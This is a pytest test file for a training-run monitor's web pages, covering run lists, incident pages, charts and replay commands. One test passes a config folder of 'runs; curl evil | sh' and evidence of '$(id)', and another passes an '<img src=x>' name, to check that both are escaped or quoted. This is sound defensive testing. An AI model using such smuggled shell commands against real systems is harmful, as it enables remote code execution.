"""The pages as the server sends them: right words, right status, nothing inline."""

import json
import re
import time
from datetime import UTC, datetime, timedelta
from html import unescape
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import insert

from monitor_service import runs, tables
from monitor_service.store import open_engine, writing
from shared.events import Change, Finding, Incident, RunEnded, Severity
from shared.exchange import Columns, RunSpec

NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)


def text_of(html: str) -> str:
    """What a reader sees, without tags and runs of blanks."""
    return " ".join(re.sub(r"<script.*?</script>|<[^>]+>", " ", html, flags=re.S).split())


def part(html: str, id_: str) -> str:
    """The text of the element with this id, up to the next one that is kept live."""
    return text_of(html.split(f'id="{id_}"', 1)[1].split(">", 1)[1].split("data-live", 1)[0])


def test_an_empty_fleet_tells_how_to_start_a_run(client: httpx.Client) -> None:
    answer = client.get("/")
    assert answer.status_code == 200
    assert "No runs yet" in answer.text
    assert "<code>make run</code>" in answer.text


def test_the_fleet_shows_status_step_checkpoint_and_time_lost(told: httpx.Client) -> None:
    html = told.get("/").text
    assert 'href="/runs/demo"' in html
    row = text_of(html.split('href="/runs/demo"', 1)[1].split("</tr>", 1)[0])
    assert "Finished" in row
    assert f"{told.get('/api/v1/runs/demo').json()['step']} of 600" in row
    assert "step 550" in row
    assert "5.3 s" in row  # 60 steps of 0.08 s and restores of 0.5 s


def test_more_runs_than_fit_lead_to_an_older_page(
    client: httpx.Client, teller: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("monitor_service.web.fleet.RUNS_ON_A_PAGE", 2)
    for name in ("run-1", "run-2", "run-3"):
        teller(client, name).register(10)
    html = client.get("/").text
    assert "run-3" in html
    assert "run-1" not in html
    older = re.search(r'href="(/\?cursor=[^"]+)"', html)
    assert older, "no link to older runs"
    assert "run-1" in client.get(older[1]).text


def runs_on(html: str) -> list[str]:
    return re.findall(r'<a class="name" href="/runs/([^"]+)"', html)


def test_runs_are_found_by_status_and_name_and_the_choices_count_them(
    client: httpx.Client, teller: Any
) -> None:
    for name in ("radio-1", "radio-2", "other"):
        teller(client, name).register(10)
    done = teller(client, "radio-3")
    done.register(10)
    done.tell(RunEnded(step=1, time=done.moment(), status="finished"))
    html = client.get("/").text
    assert runs_on(html) == ["radio-3", "other", "radio-2", "radio-1"]
    assert part(html, "choices").startswith("Healthy 3 Finished 1")
    assert runs_on(client.get("/?search=RADIO&sort=name").text) == ["radio-1", "radio-2", "radio-3"]
    assert runs_on(client.get("/?search=radio&status=finished").text) == ["radio-3"]
    assert runs_on(client.get("/?status=finished&status=healthy").text) == runs_on(html)
    nothing = client.get("/?status=lost&search=radio").text
    assert "No run is lost and called like “radio”" in text_of(nothing)
    assert "No runs yet" not in nothing


def test_a_choice_of_status_can_be_taken_back_and_keeps_the_search(client: httpx.Client, teller: Any) -> None:
    teller(client, "radio").register(10)
    html = client.get("/?search=radio").text
    (chosen,) = re.findall(r'<a href="([^"]+)" class="choice', html)
    assert chosen == "/?status=healthy&amp;search=radio"
    (back,) = re.findall(
        r'<a href="([^"]+)" aria-current="true" class="choice', client.get(chosen.replace("&amp;", "&")).text
    )
    assert back == "/?search=radio"


def test_a_sparkline_draws_the_loss_and_says_where_it_was_not_finite(told: httpx.Client) -> None:
    html = told.get("/?search=demo").text
    spark = html.split('class="spark"', 1)[1].split("</svg>", 1)[0]
    assert re.search(
        r'aria-label="Loss now 0\.0\d+, between 0\.0\d+ and 1\.\d+, not finite in places"', spark
    )
    (line,) = re.findall(r'class="spark-line" d="M([^"]+)"', spark)
    places = [tuple(map(float, place.split())) for place in line.split("L")]
    assert len(places) > 40
    assert places[0][1] < places[-1][1], "the loss falls: lower on the page is a larger y"
    assert len(re.findall(r"M", re.findall(r'class="spark-bad" d="([^"]+)"', spark)[0])) == 1


def test_an_unknown_run_is_a_page_that_says_what_to_do(told: httpx.Client) -> None:
    answer = told.get("/runs/radio-7")
    assert answer.status_code == 404
    assert answer.headers["content-type"].startswith("text/html")
    assert "knows no run called “radio-7”" in text_of(answer.text)
    assert "Check the name" in answer.text


def test_a_name_from_the_address_is_shown_and_not_obeyed(told: httpx.Client) -> None:
    html = told.get("/runs/%3Cimg%20src=x%3E").text
    assert "&lt;img src=x&gt;" in html
    assert "<img" not in html


def test_a_run_without_steps_says_so(client: httpx.Client, teller: Any) -> None:
    teller(client, "new").register(600)
    html = client.get("/runs/new").text
    assert "No steps yet" in html
    assert "Nothing out of the ordinary" in part(html, "happened")
    assert "The first comes at step 50" in part(html, "checkpoints")
    assert "Nothing was asked" in part(html, "commands")


@pytest.fixture
def run_html(told: httpx.Client) -> str:
    answer = told.get("/runs/demo")
    assert answer.status_code == 200
    return str(answer.text)


def test_the_run_page_says_how_the_run_is_and_what_it_cost(run_html: str) -> None:
    assert part(run_html, "status").startswith("Finished")
    assert "The trainer reported finished: all 600 steps done" in part(run_html, "reasons")
    numbers = part(run_html, "key-numbers")
    assert re.match(r"Step \d+ of 600 Loss 0\.0\d+ ", numbers)
    for words in (
        "Attempt 3",
        "step 550",
        "Skipped steps 1",
        "Rollbacks 2",
        "Steps lost 60",
    ):
        assert words in numbers


def test_the_run_page_tells_what_happened_in_words_newest_first(run_html: str) -> None:
    happened = part(run_html, "happened")
    told = [
        "From step 400 back to 350 by a command, from checkpoint step-00000350: the maps look washed out.",
        "From step 250 back to 240 by a guard, from a snapshot",
        "invariants: buffer scale_factor changed from 0.873 to 0.31",
        "Other event 120",
        "lr_searched: this version of the monitor does not know what it means.",
        "Sample dpm_207 set aside: not finite by itself.",
        "Update refused: its gradient is not finite. No weight changed.",
        "loss 0.47, gradient norm NaN, samples dpm_14, dpm_207",
    ]
    places = [happened.find(words) for words in told]
    assert -1 not in places, told[places.index(-1)]
    assert places == sorted(places)


def test_the_run_page_shows_the_states_of_checkpoints(run_html: str) -> None:
    checkpoints = part(run_html, "checkpoints")
    assert re.search(r"step-00000600 Sealed 600 [\d.]+", checkpoints)
    assert re.search(r"step-00000550 Good 550 [\d.]+ 9 MiB", checkpoints)
    assert re.search(r"step-00000250 Bad 250 \S 9 MiB probe", checkpoints)


def test_the_run_page_shows_the_life_of_a_command(run_html: str) -> None:
    life = re.sub(r"\d\d \w+ [\d:]+ UTC ?", "", part(run_html, "commands"))
    assert "Roll back to step 350 by ana" in life
    assert re.search(r"pending .*accepted succeeded", life)


def test_the_charts_are_told_what_to_mark(run_html: str) -> None:
    story = json.loads(re.search(r'id="story" data-live>(.*?)</script>', run_html, re.S)[1])  # type: ignore[index]
    kinds = [mark["kind"] for mark in story["marks"]]
    assert {kind: kinds.count(kind) for kind in sorted(set(kinds))} == {
        "checkpoint": 12, "finding": 3, "skipped": 1, "rollback": 2
    }  # fmt: skip
    back = next(mark for mark in story["marks"] if mark["kind"] == "rollback")
    assert (back["step"], back["to_step"]) == (400, 350)
    assert story["attempts"][-1] == {"attempt": 3, "start_step": 350}


def test_modules_are_counted_as_a_person_counts(client: httpx.Client, teller: Any) -> None:
    run = teller(client, "deep")
    run.register(10)
    names = [f"grad_norm/levels.{number}" for number in (10, 9, 1)]
    columns = Columns(step=[0], time=[run.moment().timestamp()], series={name: [1.0] for name in names})
    run.send(columns)
    html = client.get("/runs/deep").text
    story = json.loads(re.search(r'id="story" data-live>(.*?)</script>', html, re.S)[1])  # type: ignore[index]
    assert story["modules"] == [f"grad_norm/levels.{number}" for number in (1, 9, 10)]


def test_the_run_page_leads_to_its_incidents(run_html: str, told: httpx.Client) -> None:
    assert "2, 1 open; together 11 steps and 1.1 s lost." in part(run_html, "incidents")
    addresses = re.findall(r'href="(/runs/demo/incidents/[^"]+)"', run_html)
    assert addresses == [f"/runs/demo/incidents/{name}" for name in ("step-00000250-2", "step-00000120-1")]
    assert [told.get(address).status_code for address in addresses] == [200, 200]


def test_the_run_page_shows_drawn_maps_of_the_last_attempt_first(run_html: str, told: httpx.Client) -> None:
    drawn = run_html.split('id="drawn"', 1)[1].split('id="incidents"', 1)[0]
    steps = [int(step) for step in re.findall(r"<h3>Step (\d+)", drawn)]
    assert steps == [550, 450, 350, 200, 100]
    assert "map 112_0, NMSE 0.09375" in text_of(drawn)
    images = re.findall(r'<img src="([^"]+)" alt="([^"]+)"', drawn)
    assert len(images) == 2 * len(steps)
    assert images[0][1] == "map 112_0 at step 550: truth, drawn, difference"
    assert told.get(images[0][0]).headers["content-type"] == "image/png"


def test_the_incident_page_tells_the_whole_story(told: httpx.Client) -> None:
    html = told.get("/runs/demo/incidents/step-00000120-1").text
    assert "<h1>Bad data at step 120</h1>" in html
    sentence = text_of(html.split('class="lead">', 1)[1].split("</p>", 1)[0])
    assert sentence == (
        "The gradient is not finite. First in unet.mid.attention.to_q, because of sample dpm_207. "
        "Set aside dpm_207, at the price of 1 step and 210 ms."
    )
    assert part(html, "cost").startswith("Seen by guard nonfinite Began at step 120")
    culprit = part(html, "culprit")
    for words in ("Module unet.mid.attention.to_q", "Samples dpm_207", "grad norm NaN", "sample dpm_207"):
        assert words in culprit
    assert "python -m trainer replay RUN_FOLDER/incidents/step-00000120-1" in html
    timeline = part(html, "timeline")
    told_in_order = ["Update refused", "nonfinite: the gradient", "Sample dpm_207 set aside"]
    places = [timeline.find(words) for words in told_in_order]
    assert -1 not in places
    assert places == sorted(places)
    assert "Rollback" not in timeline, "that is another incident's"


def finding(run: Any, step: int, number: int = 0) -> Finding:
    return Finding(
        step=step, time=run.moment(), guard="spike", severity=Severity.WARNING, message=f"finding {number}"
    )


def test_an_old_incident_still_tells_its_own_story_after_a_thousand_later_events(
    client: httpx.Client, teller: Any
) -> None:
    run = teller(client, "long")
    run.register(5_000)
    run.start(1, 0, "start")
    run.tell(finding(run, 3), incident(run, "i-1", 3))
    undone = {"value": 1.0, "previous": 0.5, "is_undo": True, "incident": "i-1"}
    run.tell(*(finding(run, 100 + number, number) for number in range(1_000)))
    run.tell(Change(step=4_000, time=run.moment(), what="lr_factor", reason="healthy again", **undone))
    run.tell(*(finding(run, 4_001 + number, number) for number in range(600)))
    html = client.get("/runs/long/incidents/i-1").text
    timeline = part(html, "timeline")
    assert "finding 0" in timeline
    assert "healthy again" in timeline
    assert "finding 7" not in timeline
    story = json.loads(re.search(r'id="story" data-live>(.*?)</script>', html, re.S)[1])  # type: ignore[index]
    assert 3 in {mark["step"] for mark in story["marks"] if mark["kind"] == "finding"}


def test_a_run_of_a_thousand_incidents_and_commands_shows_the_newest_and_leads_to_the_rest(
    client: httpx.Client, teller: Any, tmp_path: Path
) -> None:
    run = teller(client, "sick")
    run.register(5_000)
    run.start(1, 0, "start")
    for first in range(0, 1_000, 250):
        run.tell(*(incident(run, f"i-{number}", number) for number in range(first, first + 250)))
        run.applied += 1
    engine = open_engine(f"sqlite:///{tmp_path}/monitor.db")
    with writing(engine) as connection, connection.begin():
        connection.execute(insert(tables.commands), [command(number) for number in range(1_000)])
    engine.dispose()
    seconds = []
    for _ in range(3):
        begun = time.perf_counter()
        html = client.get("/runs/sick").text
        seconds.append(time.perf_counter() - begun)
    assert html.count('href="/runs/sick/incidents/') == html.count('id="command-') == 50
    assert "1,000, 1,000 open; together" in part(html, "incidents")
    assert "The newest 50; all are at commands" in part(html, "commands")
    # a tenth of a second on an idle machine; the limit leaves room for a busy one
    assert min(seconds) < 1.0, seconds
    seen = set(re.findall(r'href="/runs/sick/incidents/([^"?]+)"', html))
    address = re.search(r'href="(/runs/sick/incidents\?skip=\d+)"', html)
    while address:
        html = client.get(address[1]).text
        seen |= set(re.findall(r'href="/runs/sick/incidents/([^"?]+)"', html))
        address = re.search(r'href="(/runs/sick/incidents\?skip=\d+)">Older', html)
    assert len(seen) == 1_000
    assert "None as old as that" in client.get("/runs/sick/incidents?skip=5000").text
    assert client.get("/runs/nobody/incidents").status_code == 404


def incident(run: Any, name: str, step: int) -> Incident:
    return Incident(
        step=step, time=run.moment(), incident=name, onset_step=step, guard="spike", kind="transient",
        message="a flipped bit",
    )  # fmt: skip


def command(number: int) -> dict[str, Any]:
    return {
        "id": f"c-{number}",
        "run_id": 1,
        "kind": "save_checkpoint",
        "reason": "why not",
        "issued_by": "ana",
        "issued_at": NOON + timedelta(seconds=number),
        "expires_at": NOON + timedelta(days=1),
        "attempt": 1,
        "state": "succeeded",
    }


def test_an_incident_that_went_back_says_so_and_has_no_evidence_to_replay(told: httpx.Client) -> None:
    html = told.get("/runs/demo/incidents/step-00000250-2").text
    assert "<h1>Corrupt weights at step 250</h1>" in html
    assert "No evidence of this step was kept." in html
    timeline = part(html, "timeline")
    assert "loss 9.4 robust deviations" in timeline
    assert "From step 250 back to 240" in timeline
    assert "From step 400" not in timeline


def test_the_replay_names_the_folder_that_the_run_was_configured_with(
    client: httpx.Client, teller: Any
) -> None:
    for name, folder in (("maps", "runs/maps"), ("maps-first-stage", "runs/maps/first-stage")):
        run = teller(client, name)
        config = {"run": {"name": "maps", "folder": "runs/maps"}}
        spec = {"started_at": "2026-03-01T12:00:00Z", "config": config}
        assert client.put(f"/api/v1/runs/{name}", json=spec).status_code == 201
        run.tell(
            Incident(
                step=3, time=run.moment(), incident="i-1", onset_step=3, guard="nonfinite", kind="transient",
                message="a flipped bit", evidence="incidents/i-1",
            )
        )  # fmt: skip
        html = client.get(f"/runs/{name}/incidents/i-1").text
        assert f"python -m trainer replay {folder}/incidents/i-1<" in html
        assert "none was found" in text_of(html)


def test_a_fault_of_the_state_names_its_tensor_where_no_module_was_searched_for(
    client: httpx.Client, teller: Any
) -> None:
    run = teller(client, "maps")
    client.put("/api/v1/runs/maps", json={"started_at": "2026-03-01T12:00:00Z"})
    run.tell(
        Incident(
            step=3, time=run.moment(), incident="i-1", onset_step=3, guard="invariants", kind="weights",
            message="weights moved further", reading={"problems": 1, "first": "unet.stem.weight"},
        )
    )  # fmt: skip
    culprit = part(client.get("/runs/maps/incidents/i-1").text, "culprit")
    assert "Tensor unet.stem.weight" in culprit
    assert "Module" not in culprit
    assert "first" not in culprit


def test_a_command_to_copy_holds_no_other_command(client: httpx.Client, teller: Any) -> None:
    run = teller(client, "maps")
    config = {"run": {"name": "maps", "folder": "runs; curl evil | sh"}}
    client.put("/api/v1/runs/maps", json={"started_at": "2026-03-01T12:00:00Z", "config": config})
    run.tell(
        Incident(
            step=3, time=run.moment(), incident="i-1", onset_step=3, guard="nonfinite", kind="transient",
            message="a flipped bit", evidence="incidents/$(id)",
        )
    )  # fmt: skip
    shown = unescape(client.get("/runs/maps/incidents/i-1").text)
    assert "python -m trainer replay 'runs; curl evil | sh/incidents/$(id)'<" in shown


def test_a_thousand_runs_are_listed_in_the_time_of_a_glance(
    client: httpx.Client, teller: Any, tmp_path: Path
) -> None:
    spec = RunSpec(total_steps=600, started_at=NOON)
    engine = open_engine(f"sqlite:///{tmp_path}/monitor.db")
    with writing(engine) as connection, connection.begin():
        for number in range(950):
            runs.register(connection, f"run-{number:04d}", spec, NOON)
    engine.dispose()
    for number in range(950, 1000):
        run = teller(client, f"run-{number:04d}")
        run.register(600)
        run.train(0, 200, plain=True)
    seconds = []
    for _ in range(5):
        begun = time.perf_counter()
        answer = client.get("/")
        seconds.append(time.perf_counter() - begun)
    assert (len(runs_on(answer.text)), answer.text.count("spark-line")) == (50, 50)
    counts = re.findall(r"<span>([0-9,]+)</span>", answer.text.split('id="choices"', 1)[1].split("</ul>")[0])
    assert sum(int(count.replace(",", "")) for count in counts) == 1000
    # a few hundredths of a second on an idle machine; the limit leaves room for a busy one
    assert min(seconds) < 0.5, seconds


def test_scripts_are_asked_for_again_so_that_an_upgrade_shows(told: httpx.Client) -> None:
    answer = told.get("/static/run.js")
    assert answer.status_code == 200
    assert answer.headers["cache-control"] == "no-cache"
    assert "javascript" in answer.headers["content-type"]
